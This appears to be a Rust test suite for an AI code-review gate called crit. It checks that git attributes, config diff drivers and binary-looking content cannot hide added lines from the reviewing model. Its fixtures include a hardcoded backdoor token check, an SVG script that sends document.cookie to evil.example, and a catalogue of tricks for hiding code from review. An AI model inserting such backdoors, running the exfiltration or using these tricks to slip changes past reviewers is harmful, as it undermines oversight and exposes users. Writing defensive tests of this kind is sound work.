//! The change decides nothing about how crit reads it: `.gitattributes`
//! (in the change, in the base, nested, macros), `.git/info/attributes`,
//! `core.attributesFile` and diff drivers in `.git/config` cannot hide an
//! added line from the reviewer; content crit cannot show as text (NUL
//! bytes, UTF-16, images) is a finding and a coverage gap, never silence.
//! Each row is a hostile repository; crit-testkit is the model, and the test
//! checks what it received.

use crate::support;

use support::gate::{self, File};
use support::{git, json_out};

use crit_testkit::FakeServer;

const BACKDOOR: &str =
    "pub fn check(token: &str) -> bool { token == \"letmein-7f3a\" || verify(token) }";

fn app(extra: &str) -> Vec<u8> {
    format!("pub fn main() {{}}\n{BACKDOOR}\n{extra}").into_bytes()
}

/// A hostile setting: a name, files in the base, files the change adds, and
/// `git config` the checkout carries (never committed: `.git/config`).
struct Row {
    name: &'static str,
    base: Vec<(&'static str, Vec<u8>)>,
    change: Vec<(&'static str, Vec<u8>)>,
    config: Vec<(&'static str, &'static str)>,
    /// A file the checkout holds outside the history (`.git/info/attributes`).
    git_dir: Vec<(&'static str, &'static str)>,
}

fn row(name: &'static str, attrs: &'static str) -> Row {
    Row {
        name,
        base: vec![],
        change: vec![
            (".gitattributes", attrs.as_bytes().to_vec()),
            ("src/app.rs", app("")),
        ],
        config: vec![],
        git_dir: vec![],
    }
}

fn files(v: &[(&'static str, Vec<u8>)]) -> Vec<File<'static>> {
    v.iter()
        .map(|(p, b)| (*p, Some(Box::leak(b.clone().into_boxed_slice()) as &[u8])))
        .collect()
}

fn attribute_rows() -> Vec<Row> {
    let mut rows = vec![
        row("-diff on *.rs, added by the change", "*.rs -diff\n"),
        row("binary on *.rs", "*.rs binary\n"),
        row("diff=x with no driver configured", "*.rs diff=x\n"),
        row("linguist-generated", "*.rs linguist-generated\n"),
        row(
            "linguist-generated=true and -diff",
            "*.rs linguist-generated=true -diff\n",
        ),
        row("export-ignore", "*.rs export-ignore\n"),
        row("eol=crlf", "*.rs eol=crlf\n"),
        row("-text", "*.rs -text\n"),
        row(
            "a macro that unsets diff",
            "[attr]hide -diff -merge -text\n*.rs hide\n",
        ),
        row(
            "-diff on everything, itself included",
            "* -diff\n.gitattributes -diff\n",
        ),
        row(
            "whitespace and diff=binary",
            "*.rs whitespace=-trailing diff=binary\n",
        ),
    ];
    rows.push(Row {
        name: "nested .gitattributes in src/",
        base: vec![],
        change: vec![
            ("src/.gitattributes", b"*.rs -diff\n".to_vec()),
            ("src/app.rs", app("")),
        ],
        config: vec![],
        git_dir: vec![],
    });
    rows.push(Row {
        name: ".gitattributes already in the base",
        base: vec![
            (".gitattributes", b"*.rs -diff\n".to_vec()),
            ("src/app.rs", b"pub fn main() {}\n".to_vec()),
        ],
        change: vec![("src/app.rs", app(""))],
        config: vec![],
        git_dir: vec![],
    });
    rows.push(Row {
        name: ".git/info/attributes",
        base: vec![],
        change: vec![("src/app.rs", app(""))],
        config: vec![],
        git_dir: vec![("info/attributes", "*.rs -diff\n")],
    });
    rows.push(Row {
        name: "core.attributesFile in .git/config",
        base: vec![],
        change: vec![("src/app.rs", app(""))],
        config: vec![("core.attributesFile", ".git/hide-attrs")],
        git_dir: vec![("hide-attrs", "*.rs -diff\n")],
    });
    rows.push(Row {
        name: "diff=x with a textconv in .git/config that prints nothing",
        base: vec![],
        change: vec![
            (".gitattributes", b"*.rs diff=x\n".to_vec()),
            ("src/app.rs", app("")),
        ],
        config: vec![("diff.x.textconv", "sh -c true")],
        git_dir: vec![],
    });
    rows.push(Row {
        name: "diff=x with diff.x.binary in .git/config",
        base: vec![],
        change: vec![
            (".gitattributes", b"*.rs diff=x\n".to_vec()),
            ("src/app.rs", app("")),
        ],
        config: vec![("diff.x.binary", "true")],
        git_dir: vec![],
    });
    rows.push(Row {
        name: "diff.external in .git/config",
        base: vec![],
        change: vec![("src/app.rs", app(""))],
        config: vec![("diff.external", "true")],
        git_dir: vec![],
    });
    rows.push(Row {
        name: "diff.noprefix and diff.mnemonicPrefix",
        base: vec![],
        change: vec![("src/app.rs", app(""))],
        config: vec![("diff.noprefix", "true"), ("diff.mnemonicPrefix", "true")],
        git_dir: vec![],
    });
    rows.push(Row {
        name: "diff.relative set to another directory",
        base: vec![],
        change: vec![
            ("src/app.rs", app("")),
            ("docs/readme.md", b"# docs\n".to_vec()),
        ],
        config: vec![("diff.relative", "true")],
        git_dir: vec![],
    });
    rows
}

#[test]
fn attributes_and_git_config_hide_no_added_line() {
    let rows = attribute_rows();
    assert!(rows.len() >= 10);
    for row in rows {
        let dir = gate::change_repo(&files(&row.base), &files(&row.change));
        let d = dir.path();
        for (rel, text) in &row.git_dir {
            support::write(&d.join(".git"), rel, text);
        }
        for (k, v) in &row.config {
            git(d, &["config", k, v]);
        }
        let server = FakeServer::start_blocking();
        gate::passes(&server, 4);
        let (out, r) = gate::gated(d, &server, &[]);
        let name = row.name;
        assert!(
            !server.model_requests().is_empty(),
            "{name}: no model request\n{}",
            support::show(&out)
        );
        assert_eq!(gate::unseen(d, &server), Vec::<String>::new(), "{name}");
        assert!(gate::sent(&server).contains(BACKDOOR), "{name}");
        assert_eq!(r["passed"], true, "{name}: {r:#}");
        assert_eq!(r["coverage"]["complete"], true, "{name}: {r:#}");
        assert_eq!(
            r["coverage"]["lines_reviewed"], r["coverage"]["lines_added"],
            "{name}: {r:#}"
        );
        gate::assert_seen_or_held(name, d, &server, &out, &r);
    }
}

/// What crit must do with content git may call binary: read it as text
/// when it is text (the model receives the backdoor), else report it.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Expect {
    /// Text: every added line reaches the model, the review passes.
    Reviewed,
    /// Binary: crit's finding, a `binary` coverage gap, the gate fails.
    Reported,
}

fn utf16(text: &str) -> Vec<u8> {
    let mut b = vec![0xFF, 0xFE];
    for u in text.encode_utf16() {
        b.extend_from_slice(&u.to_le_bytes());
    }
    b
}

const PNG: &[u8] = &[
    0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, b'I', b'H', b'D', b'R', 0, 0, 0,
    1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89, 0, 0, 0, 0x0A, b'I', b'D', b'A', b'T',
    0x78, 0x9C, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0D, 0x0A, 0x2D, 0xB4, 0, 0, 0, 0, b'I', b'E', b'N',
    b'D', 0xAE, 0x42, 0x60, 0x82,
];

#[allow(clippy::type_complexity)]
fn content_rows() -> Vec<(
    &'static str,
    Vec<(&'static str, Vec<u8>)>,
    Vec<(&'static str, Vec<u8>)>,
    Expect,
)> {
    let long = "// padding line for the first eight thousand bytes\n".repeat(200);
    let mut late_nul = long.clone().into_bytes();
    late_nul.extend_from_slice(b"\0\n");
    late_nul.extend_from_slice(BACKDOOR.as_bytes());
    late_nul.push(b'\n');
    let mut png_then_code = PNG.to_vec();
    png_then_code.extend_from_slice(b"\n");
    png_then_code.extend_from_slice(BACKDOOR.as_bytes());
    vec![
        ("a NUL at the start", vec![], vec![("src/app.rs", [b"\0".as_slice(), &app("")].concat())], Expect::Reviewed),
        ("a NUL in the middle", vec![], vec![("src/app.rs", app("let s = \"a\0b\";\n"))], Expect::Reviewed),
        ("a NUL at the end", vec![], vec![("src/app.rs", [app("").as_slice(), b"\0"].concat())], Expect::Reviewed),
        ("a NUL after git's first 8000 bytes", vec![], vec![("src/app.rs", late_nul)], Expect::Reviewed),
        ("Latin-1 bytes (not UTF-8)", vec![], vec![("src/app.rs", app("// caf\u{e9}").into_iter().chain(b"\n// na\xefve\n".iter().copied()).collect())], Expect::Reviewed),
        ("an SVG image (text)", vec![], vec![("img/logo.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//evil.example/'+document.cookie)</script></svg>\n".to_vec())], Expect::Reviewed),
        ("text marked binary by a form feed and NULs git sees", vec![], vec![("src/app.rs", app("\x0c\0\n"))], Expect::Reviewed),
        ("UTF-16 source (git calls it binary)", vec![], vec![("src/app.rs", utf16(&format!("{BACKDOOR}\n")))], Expect::Reported),
        ("a PNG image added", vec![], vec![("img/logo.png", PNG.to_vec())], Expect::Reported),
        ("a PNG image changed", vec![("img/logo.png", PNG.to_vec())], vec![("img/logo.png", [PNG, b"\x00\x01\x02\x03\xff\xfe"].concat())], Expect::Reported),
        ("a PNG header with code after it", vec![], vec![("src/run.sh", png_then_code)], Expect::Reported),
        ("random bytes in a .rs file", vec![], vec![("src/app.rs", (0u8..=255).cycle().take(2048).collect())], Expect::Reported),
        ("a binary file beside text: the text is reviewed, the binary reported", vec![], vec![("src/app.rs", app("")), ("bin/blob", (0u8..=255).collect())], Expect::Reported),
    ]
}

#[test]
fn nul_bytes_encodings_and_images_are_read_or_reported() {
    let rows = content_rows();
    assert!(rows.len() >= 10);
    for (name, base, change, expect) in rows {
        let dir = gate::change_repo(&files(&base), &files(&change));
        let d = dir.path();
        let server = FakeServer::start_blocking();
        gate::passes(&server, 4);
        let (out, r) = gate::gated(d, &server, &[]);
        gate::assert_seen_or_held(name, d, &server, &out, &r);
        let binary = gate::rules(&r).iter().any(|x| x == "crit/binary-content");
        match expect {
            Expect::Reviewed => {
                assert!(!binary, "{name}: called binary\n{r:#}");
                assert_eq!(r["passed"], true, "{name}: {r:#}");
                assert!(
                    gate::sent(&server).contains("letmein-7f3a")
                        || !change.iter().any(|(p, _)| p.ends_with(".rs")),
                    "{name}"
                );
            }
            Expect::Reported => {
                assert!(binary, "{name}: no binary finding\n{r:#}");
                assert_eq!(r["passed"], false, "{name}: {r:#}");
                assert_eq!(out.status.code(), Some(1), "{name}");
                assert!(
                    gate::gap_causes(&r).iter().any(|c| c == "binary"),
                    "{name}: {r:#}"
                );
                assert_eq!(r["coverage"]["complete"], false, "{name}");
                // With --allow-partial the user accepts it: the finding is a note.
                let server2 = FakeServer::start_blocking();
                gate::passes(&server2, 4);
                let (out2, r2) = gate::gated(d, &server2, &["--allow-partial"]);
                assert_eq!(
                    r2["passed"],
                    true,
                    "{name} (allow partial): {}",
                    support::show(&out2)
                );
                let f = r2["findings"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .find(|f| f["rule_id"] == "crit/binary-content")
                    .unwrap();
                assert_eq!(f["severity"], "info", "{name}");
            }
        }
    }
}

/// A binary file only deleted adds nothing no one read: it passes; a
/// change that is only binary content never says it reviewed a hunk.
#[test]
fn binary_only_changes_say_what_no_one_read() {
    // Only an image added: nothing was sent to the model.
    let dir = gate::change_repo(&[], &files(&[("img/a.png", PNG.to_vec())]));
    let d = dir.path();
    let server = FakeServer::start_blocking();
    gate::passes(&server, 2);
    let out = support::crit(d, &server, None)
        .args([
            "review",
            "code",
            "--diff",
            "main..HEAD",
            "--no-log",
            "--exit-code",
            "--color",
            "never",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", support::show(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("1 hunk reviewed"), "{text}");
    assert!(text.to_lowercase().contains("binary"), "{text}");
    let r = json_out(&gate::review(d, &server, &[]));
    assert_eq!(r["coverage"]["hunks_reviewed"], 0, "{r:#}");

    // Deleted: nothing added, nothing unread.
    let dir = gate::change_repo(
        &files(&[
            ("img/a.png", PNG.to_vec()),
            ("src/a.rs", b"fn a() {}\n".to_vec()),
        ]),
        &[("img/a.png", None), ("src/a.rs", Some(b"fn a() { b() }\n"))],
    );
    let server = FakeServer::start_blocking();
    gate::passes(&server, 2);
    let (out, r) = gate::gated(dir.path(), &server, &[]);
    assert_eq!(r["passed"], true, "{}", support::show(&out));
    assert!(!gate::rules(&r).iter().any(|x| x == "crit/binary-content"));
}
